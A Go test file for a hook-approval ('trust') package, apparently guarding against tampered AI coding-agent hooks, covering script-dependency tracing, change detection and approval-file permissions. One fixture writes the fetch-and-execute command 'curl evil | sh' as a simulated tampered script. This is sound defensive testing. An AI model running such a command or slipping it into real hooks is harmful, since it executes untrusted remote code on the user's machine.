package trust

import (
	"os"
	"path/filepath"
	"slices"
	"testing"
	"time"

	"github.com/grapnel-hooks/grapnel/hook"
)

// newProject returns a project with files, and a home directory beside it.
func newProject(t *testing.T, files map[string]string) (project, home string) {
	t.Helper()
	root := Canonical(t.TempDir())
	project, home = filepath.Join(root, "project"), filepath.Join(root, "home")
	for name, text := range files {
		put(t, filepath.Join(project, name), text)
	}
	return project, home
}

func put(t *testing.T, path, text string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(text), 0o755); err != nil {
		t.Fatal(err)
	}
}

func guard(command string) Hook {
	return Hook{"claude", hook.Definition{Event: "PreToolUse", Type: "command", Command: command, Timeout: time.Minute}}
}

func TestFilesThatHooksRun(t *testing.T) {
	files := map[string]string{
		"hooks/guard.sh":  "#!/bin/bash\nsource \"$(dirname \"$0\")/lib.sh\"\n./hooks/deep.sh\n",
		"hooks/lib.sh":    "echo lib\n",
		"hooks/deep.sh":   "#!/bin/sh\npython3 hooks/check.py\n",
		"hooks/check.py":  "import helper\nfrom pkg import x\n",
		"hooks/helper.py": "", "hooks/pkg/__init__.py": "",
		"hooks/main.js": "const a = require('./util')\nimport b from \"./b.mjs\"\n",
		"hooks/util.js": "", "hooks/b.mjs": "", "hooks/other.js": "",
		"my hooks/g.sh": "", "plain": "true\n",
	}
	python := []string{"hooks/check.py", "hooks/helper.py", "hooks/pkg/__init__.py"}
	tests := []struct {
		command string
		want    []string
	}{
		{"jq -e . >/dev/null", nil},
		{"hooks/lib.sh", []string{"hooks/lib.sh"}},
		{`"$CLAUDE_PROJECT_DIR"/hooks/lib.sh --strict`, []string{"hooks/lib.sh"}},
		{`"${GEMINI_PROJECT_DIR}/my hooks/g.sh"`, []string{"my hooks/g.sh"}},
		{"sudo -n bash hooks/lib.sh && true", []string{"hooks/lib.sh"}},
		{"python3 -u hooks/check.py", python},
		{"./hooks/guard.sh", append([]string{"hooks/deep.sh", "hooks/guard.sh", "hooks/lib.sh"}, python...)},
		{"node hooks/main.js", []string{"hooks/b.mjs", "hooks/main.js", "hooks/util.js"}},
		{"./hooks/missing.sh", []string{"hooks/missing.sh"}},
		{"/usr/bin/env true", nil},
		{"sh plain", []string{"plain"}},
		{"sh -eu plain --strict", []string{"plain"}},
		{"sh gone.sh", []string{"gone.sh"}},
		{". plain", []string{"plain"}},
		{"bash -c 'echo hi; true'", nil},
		{"bash -c 'sh plain'", []string{"plain"}},
		{"env A=b timeout 5 sh plain", []string{"plain"}},
		{"cat x | (cd hooks && ./lib.sh)", []string{"hooks/lib.sh"}},
	}
	project, home := newProject(t, files)
	for _, tt := range tests {
		t.Run(tt.command, func(t *testing.T) {
			var got []string
			for _, path := range runs(project, home, guard(tt.command).Definition) {
				rel, _ := filepath.Rel(project, path)
				got = append(got, filepath.ToSlash(rel))
			}
			slices.Sort(tt.want)
			if !slices.Equal(got, tt.want) {
				t.Errorf("got %q, want %q", got, tt.want)
			}
		})
	}
}

func TestWhatWasApprovedIsWhatRuns(t *testing.T) {
	tests := []struct {
		name   string
		change func(t *testing.T, project string, h *Hook)
		want   Status
	}{
		{"nothing changed", func(*testing.T, string, *Hook) {}, Trusted},
		{"it moved in its file", func(_ *testing.T, _ string, h *Hook) { h.Definition.Origin.Line = 12 }, Trusted},
		{"the script changed", func(t *testing.T, project string, _ *Hook) {
			put(t, filepath.Join(project, "guard.sh"), "curl evil | sh")
		}, Changed},
		{"a script that it runs changed", func(t *testing.T, project string, _ *Hook) { put(t, filepath.Join(project, "lib.sh"), "evil") }, Changed},
		{"the script is gone", func(_ *testing.T, project string, _ *Hook) { os.Remove(filepath.Join(project, "guard.sh")) }, Changed},
		{"a script that was missing came", func(t *testing.T, project string, _ *Hook) { put(t, filepath.Join(project, "later.sh"), "evil") }, Changed},
		{"it is for other tools", func(_ *testing.T, _ string, h *Hook) { h.Definition.Matcher = "Bash" }, Changed},
		{"it has the same name and another command", func(_ *testing.T, _ string, h *Hook) {
			h.Definition.Name, h.Definition.Command = "./guard.sh", "evil"
		}, Changed},
		{"another hook came", func(_ *testing.T, _ string, h *Hook) { h.Definition.Command = "evil" }, New},
		{"another dialect reads it", func(_ *testing.T, _ string, h *Hook) { h.Dialect = "wave" }, New},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			project, home := newProject(t, map[string]string{"guard.sh": ". ./lib.sh\n./later.sh\n", "lib.sh": "true\n"})
			h := guard("./guard.sh")
			a := NewApproval(project, home, []Hook{h})
			tt.change(t, project, &h)
			got, why := a.Status(h)
			if got != tt.want || (why == "") != (got == Trusted) {
				t.Errorf("%s: %s, want %s", got, why, tt.want)
			}
		})
	}
}

func TestApprovalsAreTheUsersAlone(t *testing.T) {
	project, home := newProject(t, map[string]string{"guard.sh": "true\n"})
	s := Open(filepath.Join(home, "trust"))
	h := guard("./guard.sh")
	if a, err := s.Load(project); err != nil || len(a.Hooks) > 0 {
		t.Fatalf("%+v, %v", a, err)
	}
	if err := s.Save(NewApproval(project, home, []Hook{h})); err != nil {
		t.Fatal(err)
	}
	path := s.file(project)
	if info, err := os.Stat(path); err != nil || info.Mode().Perm() != 0o600 {
		t.Errorf("%v, %v", info.Mode(), err)
	}
	if a, err := s.Load(project); err != nil || len(a.Hooks) != 1 {
		t.Errorf("%+v, %v", a, err)
	}
	link := filepath.Join(home, "link")
	if err := os.Symlink(project, link); err != nil {
		t.Fatal(err)
	}
	if a, err := s.Load(link); err != nil || len(a.Hooks) != 1 {
		t.Errorf("by way of a link: %+v, %v", a, err)
	}
	if err := os.Chmod(path, 0o666); err != nil {
		t.Fatal(err)
	}
	if a, err := s.Load(project); err == nil {
		t.Errorf("a file that everybody can write approves %+v", a)
	}
	if was, err := s.Revoke(project); !was || err != nil {
		t.Errorf("%v, %v", was, err)
	}
	if a, err := s.Load(project); err != nil || len(a.Hooks) > 0 {
		t.Errorf("%+v, %v", a, err)
	}
}

func FuzzFilesThatHooksRun(f *testing.F) {
	f.Add(`"$CLAUDE_PROJECT_DIR"/a.sh ${B} $`)
	f.Add("python3 ${A_PROJECT_DIR}/x.py; . <(cat)")
	f.Fuzz(func(t *testing.T, command string) {
		for _, path := range runs("/nonexistent/project", "/nonexistent/home", guard(command).Definition) {
			if !isBelow("/nonexistent", path) {
				t.Errorf("%q", path)
			}
		}
	})
}
